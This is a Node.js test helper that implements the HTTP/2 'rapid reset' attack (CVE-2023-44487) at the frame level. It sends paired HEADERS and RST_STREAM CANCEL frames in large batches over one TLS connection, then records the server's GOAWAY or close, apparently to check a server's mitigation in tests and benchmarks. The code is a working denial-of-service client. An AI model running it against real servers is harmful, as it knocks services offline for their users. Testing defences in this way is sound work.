// An HTTP/2 "rapid reset" client (CVE-2023-44487) written at the frame level: on one TLS connection
// it opens streams (a HEADERS frame for GET) and cancels each at once (RST_STREAM CANCEL), the two
// frames back to back in the same write, many pairs per write. Node's own client cannot do this:
// nghttp2 drops a request's HEADERS still queued when the stream is reset, so the server would see
// nothing. Used by the e2e test and by bench/rapid-reset.js.
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const SETTINGS = 0x4;
const PING = 0x6;
const GOAWAY = 0x7;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/**
 * A HEADERS block for `GET path` on https with `authority`, in HPACK without the dynamic table:
 * static-table entries for :method GET (2) and :scheme https (7), literals for :path and :authority.
 */
function requestBlock(authority, path) {
  const literal = (index, value) => {
    const v = Buffer.from(value, 'latin1');
    if (v.length > 126) throw new Error('value too long for this encoder');
    return Buffer.concat([Buffer.from([index, v.length]), v]); // literal without indexing, indexed name
  };
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, authority)]);
}

/**
 * Opens one TLS connection with ALPN h2 to `host:port` and opens-then-resets `streams` streams,
 * `batch` HEADERS+RST_STREAM pairs per write (each write after the previous was handed to the
 * kernel), stopping early when the server sends GOAWAY or closes. Resolves once the server has
 * closed the connection, or `lingerMs` after the last write without a close, with
 * `{sent, goaway: {code, lastStreamId} | null, closed, ms}`; `closed`: the server ended the
 * connection (`ms`: from the first write to the close, or to the end of the linger).
 */
export function rapidReset({
  host = '127.0.0.1',
  port,
  ca,
  servername,
  authority = servername,
  path = '/',
  streams = 2000,
  batch = 100,
  lingerMs = 2000,
}) {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ host, port, ca, servername, ALPNProtocols: ['h2'] });
    const block = requestBlock(authority, path);
    const rst = Buffer.alloc(4);
    rst.writeUInt32BE(CANCEL);
    let sent = 0;
    let goaway = null;
    let closed = false;
    let started = 0;
    let linger = null;
    let pending = Buffer.alloc(0);
    let done = false;
    const finish = () => {
      if (done) return;
      done = true;
      clearTimeout(linger);
      socket.destroy();
      resolve({ sent, goaway, closed, ms: Math.round(performance.now() - started) });
    };
    const next = () => {
      if (socket.destroyed) return;
      if (sent >= streams || goaway !== null) {
        linger = setTimeout(finish, lingerMs);
        return;
      }
      const parts = [];
      for (let i = 0; i < batch && sent < streams; i++, sent++) {
        const id = 2 * sent + 1;
        parts.push(frame(HEADERS, END_STREAM | END_HEADERS, id, block), frame(RST_STREAM, 0, id, rst));
      }
      socket.write(Buffer.concat(parts), () => setImmediate(next));
    };
    socket.once('secureConnect', () => {
      if (socket.alpnProtocol !== 'h2') return reject(new Error(`ALPN gave ${socket.alpnProtocol}, not h2`));
      started = performance.now();
      socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)]));
      next();
    });
    socket.on('data', (chunk) => {
      pending = Buffer.concat([pending, chunk]);
      while (pending.length >= 9) {
        const length = pending.readUIntBE(0, 3);
        if (pending.length < 9 + length) break;
        const type = pending[3];
        const flags = pending[4];
        const payload = pending.subarray(9, 9 + length);
        pending = pending.subarray(9 + length);
        if (type === SETTINGS && (flags & ACK) === 0) socket.write(frame(SETTINGS, ACK, 0));
        else if (type === PING && (flags & ACK) === 0) socket.write(frame(PING, ACK, 0, payload));
        else if (type === GOAWAY && goaway === null)
          goaway = { code: payload.readUInt32BE(4), lastStreamId: payload.readUInt32BE(0) & 0x7fffffff };
      }
    });
    // A server that cuts the connection may reset it under a write in flight: that is a close too.
    socket.on('error', () => {});
    socket.once('close', () => {
      if (done) return;
      closed = true;
      if (started === 0) return reject(new Error('connection closed before the TLS handshake ended'));
      finish();
    });
  });
}
